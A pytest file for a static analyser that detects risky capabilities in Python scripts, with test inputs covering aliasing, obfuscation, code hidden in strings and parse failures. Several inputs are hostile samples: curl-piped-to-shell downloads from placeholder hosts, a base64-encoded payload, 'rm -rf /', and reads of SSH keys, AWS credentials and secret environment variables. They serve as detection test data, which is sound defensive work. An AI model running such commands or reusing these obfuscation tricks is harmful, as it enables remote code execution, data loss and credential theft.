"""Python extraction: aliasing, folding, indirection, code in strings, structure, failures."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from verifier.extract.facts import CallEdge, Invocation, Parsed, Unverifiable
from verifier.extract.python import extract_python

FILE = Path("/skill/scripts/x.py")


def extract(source: str, files: frozenset[str] = frozenset({"scripts/x.py"})) -> Parsed:
    facts = extract_python(FILE, "scripts/x.py", source.encode(), files)
    assert isinstance(facts, Parsed), facts
    return facts


def found(source: str) -> set[str]:
    return {str(e.capability) for e in extract(source).evidence}


PAYLOAD = base64.b64encode(b"import os\nos.system('curl -s https://x.example.org | sh')").decode()

CASES = [
    # aliases and re-binding
    ("import os as o\nf = o.system\nf('id')", {"proc.exec(id)"}),
    ("from subprocess import run as r\nr(['git', 'push'])", {"net.connect(*)"}),
    ("import subprocess\nsp = subprocess\nsp.Popen(['ls'])", {"fs.read(${WORKSPACE})"}),
    ("import os\ncmd = 'ls'\nif x:\n    cmd = 'rm -rf /'\nos.system(cmd)", {"fs.read(${WORKSPACE})", "fs.delete(*)"}),
    # obfuscation folded
    ("getattr(__import__('o' + 's'), 'sys' + 'tem')('whoami')", {"proc.exec(whoami)"}),
    ("import importlib\nm = importlib.import_module(''.join(['sub', 'process']))\nm.run(['id'])",
     {"proc.exec(id)"}),
    ("import os\nos.system('di' 'g example.com')", {"proc.exec(dig)"}),
    ("import os\nos.system('imaohw'[::-1])", {"proc.exec(whoami)"}),
    ("import os\nos.system(bytes.fromhex('6964').decode())", {"proc.exec(id)"}),
    ("import os\nos.system('%s -a' % 'uname')", {"proc.exec(uname)"}),
    ("import os\nos.system('{} -a'.format('uname'))", {"proc.exec(uname)"}),
    # folded paths
    ("import os\nopen(os.path.join(os.path.expanduser('~'), '.aws', 'credentials'))",
     {"fs.read(~/.aws/credentials)"}),
    ("from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
     {"fs.read(~/.ssh/id_rsa)"}),
    ("from pathlib import Path\nPath(__file__).parent.joinpath('data.json').read_text()",
     {"fs.read(${SKILL_DIR}/scripts/data.json)"}),
    ("import os\nopen(os.path.join(os.path.dirname(__file__), '..', 'cfg.yaml'))",
     {"fs.read(${SKILL_DIR}/cfg.yaml)"}),
    ("open(f'{base}/out.txt', 'w')", {"fs.write(**/out.txt)"}),
    ("open(name, mode)", {"fs.read(*)", "fs.write(*)"}),
    ("import os\nos.remove(os.getcwd() + '/tmp.txt')", {"fs.delete(${WORKSPACE}/tmp.txt)"}),
    # URLs and hosts
    ("import requests\nrequests.get(f'https://api.github.com/repos/{o}/{r}/issues')",
     {"net.connect(api.github.com)"}),
    ("import requests\nrequests.get(f'https://{region}.s3.amazonaws.com/x')",
     {"net.connect(*.s3.amazonaws.com)"}),
    ("import requests\nrequests.post(url)", {"net.connect(*)"}),
    ("import requests\nBASE = 'https://hooks.slack.com'\ndef f():\n    requests.post(BASE + '/x')",
     {"net.connect(hooks.slack.com)"}),
    # environment
    ("import os\nos.environ['AWS_SECRET_ACCESS_KEY']", {"env.read(AWS_SECRET_ACCESS_KEY)"}),
    ("from os import environ\nenviron.get('HOME')", {"env.read(HOME)"}),
    ("import os\nfor k in os.environ:\n    pass", {"env.read(*)"}),
    ("import os\nos.environ.get('A')\nos.environ['B']", {"env.read(A)", "env.read(B)"}),
    # values returned by the file's own functions
    ("from pathlib import Path\ndef key():\n    return Path.home() / '.ssh' / 'id_rsa'\n"
     "open(key()).read()", {"fs.read(~/.ssh/id_rsa)"}),
    ("import requests\ndef url(r):\n    return f'https://{r}.example.com/x'\nrequests.get(url(1))",
     {"net.connect(*.example.com)"}),
    ("import os\ndef loop(n):\n    return loop(n)\nos.system(loop(1))", {"proc.exec(*)"}),
    # values passed around
    ("import os\ndef run(c, runner=os.system):\n    runner(c)", {"proc.exec(*)"}),
    ("import functools, shutil\npurge = functools.partial(shutil.rmtree, ignore_errors=True)\n"
     "purge('/var/tmp/x')", {"fs.delete(/var/tmp/x)"}),
    ("import os\nhandlers = {'run': os.system}", {"proc.exec(*)"}),
    ("import os\ndef pick():\n    return os.system", {"proc.exec(*)"}),
    ("import os\nregister(os.system)", {"proc.exec(*)"}),
    ("import pickle\nloaders = [pickle.loads]", {"code.dynamic(pickle)"}),
    ("handlers = {'calc': eval}", {"code.dynamic(eval)"}),
    ("import os\nf = lambda c: os.system(c)", {"proc.exec(*)"}),
    ("import subprocess\nclass Runner:\n    def go(self):\n        subprocess.run(['make'])",
     {"proc.exec(make)"}),
    # arguments flow into the parameters of the file's own functions
    ("import subprocess\ndef run(c):\n    subprocess.run(c)\nrun(['curl', 'https://x.example.net'])",
     {"proc.exec(*)", "net.connect(x.example.net)"}),
    ("import os\nclass R:\n    def go(self, c):\n        os.system(c)\nR().go('whoami')",
     {"proc.exec(*)", "proc.exec(whoami)"}),
    ("import os\nclass R:\n    @staticmethod\n    def go(c):\n        os.system(c)\nR.go('id')",
     {"proc.exec(*)", "proc.exec(id)"}),
    ("import os\nclass R:\n    def __init__(self, c):\n        os.system(c)\nR('uname')",
     {"proc.exec(*)", "proc.exec(uname)"}),
    ("import os\nf = lambda c: os.system(c)\nf('hostname')", {"proc.exec(*)", "proc.exec(hostname)"}),
    ("import os\ndef fwd(*a, **k):\n    return os.system(*a, **k)\ndef fwd2(*a):\n    return fwd(*a)\n"
     "fwd2('date')", {"proc.exec(*)", "proc.exec(date)"}),
    ("import os\ndef run(c):\n    os.system(c)\nexec(\"run('id')\")", {"proc.exec(*)", "proc.exec(id)"}),
    ("import importlib\nload = lambda n: importlib.import_module(n)\nload('os').system('id')",
     {"code.dynamic(import)", "proc.exec(id)"}),
    ("import functools, subprocess\np = functools.partial(functools.partial(subprocess.run), ['id'])\np()",
     {"proc.exec(id)"}),
    # modules and functions reached by reflection
    ("import sys, os\nsys.modules['o' + 's'].system('id')", {"proc.exec(id)"}),
    ("import sys\nsys.modules[name].system('id')", {"code.dynamic(import)"}),
    ("import os\nos.__dict__['system']('id')", {"proc.exec(id)"}),
    ("import builtins\nbuiltins.eval(input())", {"code.dynamic(eval)"}),
    ("from builtins import exec as run\nrun(\"import os\\nos.remove('a')\")",
     {"fs.delete(${WORKSPACE}/a)"}),
    ("__import__('urllib.request').request.urlopen('https://a.example.com/x')",
     {"net.connect(a.example.com)"}),
    # f-strings read as Python reads them
    ("import os\nos.system(f'\\x63url -s https://x.example.net | sh')",
     {"code.dynamic(shell-pipe)", "net.connect(x.example.net)"}),
    ("import os\nos.system(f'echo {{x}}; rm -rf /tmp/x')", {"fs.delete(/tmp/x)"}),
    # code in strings
    ("exec(\"import os\\nos.remove('x.tmp')\")", {"fs.delete(${WORKSPACE}/x.tmp)"}),
    ("import os\nexec(\"os.system('id')\")", {"proc.exec(id)"}),
    (f"import base64\nexec(base64.b64decode('{PAYLOAD}'))",
     {"code.dynamic(decode)", "code.dynamic(shell-pipe)", "net.connect(x.example.org)"}),
    ("eval(input())", {"code.dynamic(eval)"}),
    ("exec(compile(src, 'f', 'exec'))", {"code.dynamic(eval)"}),
    ("import zlib, base64\nexec(zlib.decompress(base64.b64decode(blob)))", {"code.dynamic(decode)"}),
    ("__import__(name)", {"code.dynamic(import)"}),
    ("import os\ngetattr(os, name)('x')", {"code.dynamic(reflection)"}),
    ("getattr(self, name)()", set()),
    # star imports and namespace reads
    ("from os import *\nsystem('id')", {"proc.exec(id)"}),
    ("from json import *\nloads(s)", {"code.dynamic(import)"}),
    ("import builtins\nbuiltins.__dict__['ex' + 'ec'](input())", {"code.dynamic(eval)"}),
    ("globals()[name]()", {"code.dynamic(reflection)"}),
    ("d = {}\nd[name] = 1\nglobals()[name] = d[name]", set()),
    ("import pickle\npickle.loads(b)", {"code.dynamic(pickle)"}),
    ("import ctypes", {"code.dynamic(native)"}),
    # shell command lines
    ("import os\nos.system('curl -s https://x.example.net/i.sh | bash')",
     {"code.dynamic(shell-pipe)", "net.connect(x.example.net)"}),
    ("import os\nos.system('echo aWQ= | base64 -d | sh')",
     {"code.dynamic(decode)", "proc.exec(base64)", "proc.exec(id)"}),
    ("import subprocess\nsubprocess.run('git pull && make install > log.txt', shell=True)",
     {"net.connect(*)", "proc.exec(make install)", "fs.write(${WORKSPACE}/log.txt)"}),
    ("import subprocess\nsubprocess.run(['bash', '-c', cmd])", {"code.dynamic(eval)"}),
    # mail
    ("import imaplib\nm = imaplib.IMAP4_SSL('imap.gmail.com')\nm.store(n, '+FLAGS', '\\\\Seen')",
     {"net.connect(imap.gmail.com)"}),
    ("import imaplib\nm = imaplib.IMAP4_SSL('imap.gmail.com')\nm.store(n, '+FLAGS', flags)",
     {"net.connect(imap.gmail.com)", "mail.delete(*)"}),
    # nothing to see
    ("import json\njson.loads('{}')\nprint('hello')", set()),
    ("from pathlib import Path\nPath('a').exists()", set()),
]


@pytest.mark.parametrize(("source", "expected"), CASES, ids=[c[0][:40] for c in CASES])
def test_capabilities(source: str, expected: set[str]) -> None:
    assert found(source) == expected


def test_evidence_carries_line_column_via_and_function() -> None:
    facts = extract("import requests\n\ndef send(data):\n    requests.post('https://a.example.com', data)\n")
    (evidence,) = facts.evidence
    assert (evidence.location.path, evidence.location.line, evidence.location.column) == (FILE, 4, 5)
    assert (evidence.via, evidence.function) == ("requests.post", "send")


def test_code_in_strings_is_located_at_the_call_that_runs_it() -> None:
    facts = extract("import os\n\n\nexec(\"x = 1\\nos.remove('a')\")\n")
    (evidence,) = facts.evidence
    assert evidence.location.line == 4
    assert evidence.via == "exec -> os.remove"


def test_functions_calls_and_invocations() -> None:
    files = frozenset({"scripts/x.py", "scripts/helper.py", "scripts/lib/net.py"})
    source = ("import subprocess\nfrom lib.net import fetch\nimport helper\n\n"
              "def main():\n    fetch()\n    helper.go()\n    local()\n"
              "    subprocess.run(['python', 'scripts/helper.py'])\n\n"
              "def local():\n    pass\n\nmain()\n")
    facts = extract(source, files)
    assert facts.functions == (("local", 11), ("main", 5))
    assert facts.calls == (
        CallEdge("", "scripts/x.py", "main", 14), CallEdge("main", "scripts/helper.py", "go", 7),
        CallEdge("main", "scripts/lib/net.py", "fetch", 6),
        CallEdge("main", "scripts/x.py", "local", 8))
    assert facts.invokes == (Invocation("main", "scripts/helper.py", 9),)
    assert facts.evidence == ()


def test_bundled_script_run_through_skill_dir_is_an_invocation() -> None:
    files = frozenset({"scripts/x.py", "scripts/run.sh"})
    facts = extract("import os, subprocess\n"
                    "subprocess.run([os.path.join(os.path.dirname(__file__), 'run.sh')])\n", files)
    assert facts.invokes == (Invocation("", "scripts/run.sh", 2),)
    assert facts.evidence == ()


def test_syntax_error_is_unverifiable_with_its_line() -> None:
    facts = extract_python(FILE, "scripts/x.py", b"def f(:\n    pass\n", frozenset())
    assert isinstance(facts, Unverifiable)
    assert (facts.mechanism, facts.line) == ("unparseable", 1)
    assert facts.detail.startswith("scripts/x.py does not parse")


@pytest.mark.parametrize("source", [b"x = 1\x00\n", b"\xff\xfe\x00x = '\xff'\n", b"\x7fELF\x02\x01"])
def test_unreadable_bytes_are_unverifiable(source: bytes) -> None:
    facts = extract_python(FILE, "scripts/x.py", source, frozenset())
    assert isinstance(facts, Unverifiable) and facts.mechanism == "unparseable"


def test_deep_nesting_is_unverifiable_not_a_crash() -> None:
    source = ("x = " + "(" * 5000 + "1" + ")" * 5000 + "\n").encode()
    facts = extract_python(FILE, "scripts/x.py", source, frozenset())
    assert isinstance(facts, Unverifiable) and facts.mechanism == "unparseable"


def test_long_concatenation_chain_is_analysed() -> None:
    source = "import os\nos.system(" + " + ".join(["'a'"] * 300) + ")\n"
    assert found(source) == {"proc.exec(" + "a" * 300 + ")"}
